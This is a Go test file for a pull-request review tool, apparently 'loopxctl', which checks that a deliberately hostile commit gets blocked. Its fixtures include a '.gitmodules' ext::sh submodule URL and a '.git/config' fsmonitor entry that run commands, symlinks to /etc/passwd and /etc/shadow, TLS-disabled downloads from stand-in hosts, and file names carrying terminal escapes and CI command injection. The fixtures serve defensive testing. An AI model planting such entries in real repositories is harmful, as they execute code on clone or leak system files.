package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/loopx/loopx-frontend/internal/gitbed"
	"github.com/loopx/loopx-frontend/policy/ack"
	"github.com/loopx/loopx-frontend/policy/review"
)

// hostileName is what a reader could take for more than a file's name.
const hostileName = "x\n::error::taken\x1b[31m`](https:evil.example.com) @everyone \u202e<script>|*_##[error]"

// gated is a repository whose main branch has signers, a policy and a workflow.
func gated(t *testing.T) (r *gitbed.Repo, base string) {
	t.Helper()
	_, aliceLine := reviewer(t, "alice@example.com")
	r = gitbed.New(t)
	base = r.Commit("main", "", gitbed.Files{
		"Dockerfile": gitbed.Text(clean), ".loopx/allowed_signers": gitbed.Text(aliceLine),
		"loopx.yaml":                  gitbed.Text("review: {unprovable: error}\nfloors: {setuptools: 78.1.1}\n"),
		".github/workflows/check.yml": gitbed.Text("on: pull_request\njobs: {a: {steps: [{run: loopxctl review --base origin/main}]}}\n"),
		"requirements.txt":            gitbed.Text("setuptools>=80\n"), "Kept": gitbed.Text("FROM debian\n"),
	})
	return r, base
}

// malicious is a change that tries everything at once.
func malicious(t *testing.T, r *gitbed.Repo, base string) string {
	t.Helper()
	mallory, malloryLine := reviewer(t, "mallory@example.com")
	files := gitbed.Files{
		"Dockerfile":             gitbed.Text("# syntax=evil.example.com/frontend\n# check=skip=all\nFROM debian:trixie-slim\n# loopx:ignore=VerificationOff reason=x\nRUN curl -k https://a.example.com/install.sh -o /install.sh\n"),
		".loopx/allowed_signers": gitbed.Text(malloryLine), ".loopx/policy.yaml": gitbed.Text("unsigned: true\nmax_days: 36500\n"),
		"loopx.yaml":                  gitbed.Text("review: {unprovable: allow}\n"),
		ack.Path:                      gitbed.Text(acknowledged(t, mallory, "mallory@example.com", subjectOf(t, unverified))),
		".github/workflows/check.yml": gitbed.Text("on: pull_request\njobs: {a: {steps: [{run: 'true'}]}}\n"),
		".github/workflows/build.yml": gitbed.Text("jobs: {a: {steps: [{run: 'docker build -f \"$F\" .'}, {uses: docker/build-push-action@v6, with: {file: ../../etc/passwd}}, {run: docker build -f assets/data.bin .}]}}\n"),
		"compose.yaml":                gitbed.Text("services:\n  a:\n    build:\n      dockerfile_inline: |\n        FROM debian:trixie-slim\n        RUN wget --no-check-certificate https://a.example.com/x\n"),
		"assets/logo.png":             gitbed.Text("fr\\\nom debian\nRUN curl -k https://a.example.com/hidden\n"),
		"assets/data.bin":             gitbed.Text("ARG A=1\nFROM debian\nRUN git -c http.sslVerify=false clone https://a.example.com/x\n"),
		"vendor/Dockerfile":           gitbed.Text(unverified), "node_modules/a/Dockerfile": gitbed.Text(unverified),
		"ignored/Dockerfile": gitbed.Text(unverified), ".gitignore": gitbed.Text("ignored/\nrequirements.txt\n*.lock\n"),
		"requirements.txt": gitbed.Text("setuptools>=60\n"),
		".gitattributes":   gitbed.Text("* export-ignore linguist-generated linguist-vendored -diff filter=evil\n"),
		"sub":              {Mode: "160000", Data: base}, ".gitmodules": gitbed.Text("[submodule \"sub\"]\n\tpath = sub\n\turl = ext::sh -c touch% /tmp/x\n"),
		"passwd": gitbed.Link("../../../../etc/passwd"), "abs/Dockerfile": gitbed.Link("/etc/shadow"), "loop/Dockerfile": gitbed.Link("Dockerfile"),
		"DOCKERFILE": gitbed.Text(clean), "huge/Dockerfile": gitbed.Text(strings.Repeat("# x\n", 5<<20)), "Kept": {Mode: "100755", Data: "FROM debian\n"},
		"lfs/Dockerfile":            gitbed.Text("version https://git-lfs.github.com/spec/v1\noid sha256:" + strings.Repeat("a", 64) + "\nsize 12\n"),
		hostileName + ".py":         gitbed.Text(unverified),
		"d/" + hostileName:          gitbed.Text("FROM debian\nRUN curl -k https://a.example.com/\x1b[31m\n"),
		"bytes/\xff\xfe/Dockerfile": gitbed.Text(unverified),
	}
	for i := range 10_000 {
		files[fmt.Sprintf("many/%d/%d.txt", i/100, i)] = gitbed.Text(strconv.Itoa(i))
	}
	c := r.Commit("evil", base, files)
	entries := []gitbed.Entry{{Mode: "40000", Name: ".git", ID: r.RawTree(gitbed.Entry{Mode: "100644", Name: "config", ID: r.Blob("[core]\n\tfsmonitor = touch /tmp/x\n")})}}
	for line := range strings.SplitSeq(strings.TrimSuffix(r.Git("ls-tree", "-z", c), "\x00"), "\x00") {
		head, name, _ := strings.Cut(line, "\t")
		words := strings.Fields(head)
		entries = append(entries, gitbed.Entry{Mode: words[0], Name: name, ID: words[2]})
	}
	return r.CommitTree(r.RawTree(entries...), base)
}

// TestReviewMalicious holds that nothing which a change does to itself keeps it
// from being seen.
func TestReviewMalicious(t *testing.T) {
	t.Parallel()
	r, base := gated(t)
	head := malicious(t, r, base)
	code, doc, out, diag := reviewed(t, r, "--base", "main", "--head", head)
	if code != exitBlocked || doc.Verdict != review.RequestChanges {
		t.Fatalf("exit code %d, %s\n%.2000s%s", code, doc.Verdict, out, diag)
	}
	all := strings.Join(told(doc), "\n")
	for _, want := range []string{
		"new blocker Dockerfile:5 VerificationOff", "new blocker assets/logo.png:3 VerificationOff", "new blocker assets/data.bin:3 VerificationOff",
		"new blocker compose.yaml:6 VerificationOff", "new blocker vendor/Dockerfile:2 VerificationOff", "new blocker node_modules/a/Dockerfile:2 VerificationOff",
		"new blocker ignored/Dockerfile:2 VerificationOff", "new blocker requirements.txt:1 ", "new blocker huge/Dockerfile:0 NotChecked", "new blocker lfs/Dockerfile:1 NotChecked",
		"new blocker abs/Dockerfile:0 NotChecked", "new blocker loop/Dockerfile:0 NotChecked", "new blocker .git/config:0 MalformedTree",
		"new warning DOCKERFILE:0 CaseCollision", "new warning passwd:0 LinkOutOfTree", "new warning abs/Dockerfile:0 LinkOutOfTree",
		"new blocker .github/workflows/build.yml:1 UnprovableBuildStep",
		"about blocker .loopx/allowed_signers:0 GateTrustChanged", "about blocker .loopx/policy.yaml:0 GateTrustChanged",
		"about warning loopx.yaml:0 GateConfigChanged", "about warning .loopx/acknowledgements.yaml:0 GateConfigChanged", "about warning .github/workflows/check.yml:0 GateConfigChanged",
		"about warning Dockerfile:4 CheckSilenced", "about warning Dockerfile:2 CheckSilenced", "about warning Dockerfile:1 SyntaxChanged", "about warning sub:0 SubmoduleChanged",
		hostileName + ".py:2 VerificationOff", "d/" + hostileName + ":2 VerificationOff",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("lacks %q", want)
		}
	}
	if t.Failed() {
		t.Logf("%s", all)
	}
	for _, f := range doc.New {
		if f.Acknowledgement != nil {
			t.Errorf("%s counts as signed by %s", f.Rule, f.Acknowledgement.Owner)
		}
	}
	if len(doc.Moved) == 0 || doc.Counts.Fixed != 0 {
		t.Errorf("moved %v, %d fixed", doc.Moved, doc.Counts.Fixed)
	}
}

// TestReviewPublic holds, on the bytes of every format, that a finding with the tag
// is counted and nothing else, also not in what is said of others in its file, that it blocks, and that names of files are only
// text; the private file has it all, and nobody else may read that.
func TestReviewPublic(t *testing.T) {
	t.Parallel()
	r, base := gated(t)
	head := r.Commit("evil", base, gitbed.Files{
		hostileName: gitbed.Text(unverified), "docs/private.md": gitbed.Text("Secret Person, Secret Street 1\n"), "Dockerfile": gitbed.Text(unverified + "# nosec Secret Street 1\n"),
		".github/workflows/own.yml": gitbed.Text("run: docker build --build-arg 'OWNER=Secret Person' -f \"$F\" .\n"), "requirements.txt": gitbed.Text("setuptools>=Secret Street\n"),
	})
	dir := t.TempDir()
	write := func(name, results string) string {
		file := filepath.Join(dir, name)
		log := `{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"SecretScanner","rules":[{"id":"SECRET1"}]}},"results":[` + results + `]}]}`
		if err := os.WriteFile(file, []byte(log), 0o600); err != nil {
			t.Fatal(err)
		}
		return file
	}
	none := write("base.sarif", "")
	result := func(file, rule, properties string) string {
		return `{"ruleId":"` + rule + `","level":"note","message":{"text":"Secret Person lives here"},"properties":` + properties +
			`,"locations":[{"physicalLocation":{"artifactLocation":{"uri":"` + file + `"},"region":{"startLine":4711,"snippet":{"text":"Secret Street 1"}}}}]}`
	}
	some := write("head.sarif", result("docs/private.md", "SECRET1", `{"tags":["documentation","private_or_security_sensitive"]}`)+","+
		result("docs/private.md", "SECRET2", `{"tags":["documentation"],"private_or_security_sensitive":true}`)+","+
		result("./Dockerfile", "SECRET3", `{"tags":["documentation","Private-Or-Security-Sensitive"]}`)+","+
		result(".github/workflows/own.yml", "SECRET4", `{"tags":["private_or_security_sensitive"]}`)+","+result("requirements.txt", "SECRET5", `{"tags":["private_or_security_sensitive"]}`))
	for _, format := range []string{"text", "json", "markdown", "github-review", "sarif", "github"} {
		private := filepath.Join(dir, "private."+format)
		verdict := filepath.Join(dir, "verdict."+format)
		for _, more := range [][]string{nil, {"--public"}} {
			args := append([]string{"--base", "main", "--head", "evil", "--format", format, "--sarif-base", none, "--sarif-head", some, "--private-output", private, "--verdict", verdict}, more...)
			code, out, diag := review1(t, r, args...)
			kept, err := os.ReadFile(verdict)
			if err != nil {
				t.Fatal(err)
			}
			if code != exitBlocked || !strings.Contains(out, private) || !strings.Contains(string(kept), head) {
				t.Errorf("%s: exit code %d\n%s%s", format, code, out, diag)
			}
			for name, text := range map[string]string{"output": out, "diagnostics": diag, "verdict": string(kept)} {
				for _, word := range []string{"Secret P", "Secret S", "SecretScanner", "SECRET", "4711", "private.md"} {
					if strings.Contains(text, word) {
						t.Errorf("%s %v: the %s tells %q:\n%s", format, more, name, word, text)
					}
				}
				onlyText(t, format+" "+name, text, format == "github")
			}
			whole, err := os.ReadFile(private)
			if err != nil || !strings.Contains(string(whole), "Secret Person") {
				t.Errorf("%s: the private file: %v\n%s", format, err, whole)
			}
			if info, err := os.Stat(private); err != nil || info.Mode().Perm() != 0o600 {
				t.Errorf("%s: %v %v", format, info, err)
			}
		}
	}
}

// onlyText holds that no byte is one that a terminal obeys, and no line one that a
// CI system does, but our own.
func onlyText(t *testing.T, what, text string, commands bool) {
	t.Helper()
	for _, c := range text {
		if c != '\n' && !strconv.IsPrint(c) {
			t.Errorf("%s has the character %U", what, c)
		}
	}
	if strings.Contains(text, "##[") {
		t.Errorf("%s has a command", what)
	}
	for line := range strings.Lines(text) {
		if trimmed := strings.TrimSpace(line); strings.HasPrefix(trimmed, "::") && !commands || strings.HasPrefix(trimmed, "::error::taken") {
			t.Errorf("%s has a command: %s", what, line)
		}
	}
}

// TestReviewMarkdown holds that foreign text stands in spans of code, and ends none
// of them.
func TestReviewMarkdown(t *testing.T) {
	t.Parallel()
	r, base := gated(t)
	r.Commit("evil", base, gitbed.Files{hostileName: gitbed.Text(unverified)})
	_, out, _ := review1(t, r, "--base", "main", "--head", "evil", "--format", "markdown")
	for i, part := range strings.Split(out, "`") {
		if i%2 == 0 && strings.ContainsAny(part, "@<|[]\\") {
			t.Errorf("outside of a span: %q in\n%s", part, out)
		}
	}
	if !strings.Contains(out, "x\\n::error::taken") {
		t.Error(out)
	}
	_, out, _ = review1(t, r, "--base", "main", "--head", "evil", "--format", "github-review")
	var doc struct {
		CommitID string `json:"commit_id"`
		Event    string
		Body     string
		Comments []struct {
			Path, Side, Body string
			Line             int
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.CommitID != r.Git("rev-parse", "evil") || doc.Event != "REQUEST_CHANGES" || len(doc.Comments) != 0 || !strings.Contains(doc.Body, "VerificationOff") {
		t.Errorf("%+v", doc)
	}
}
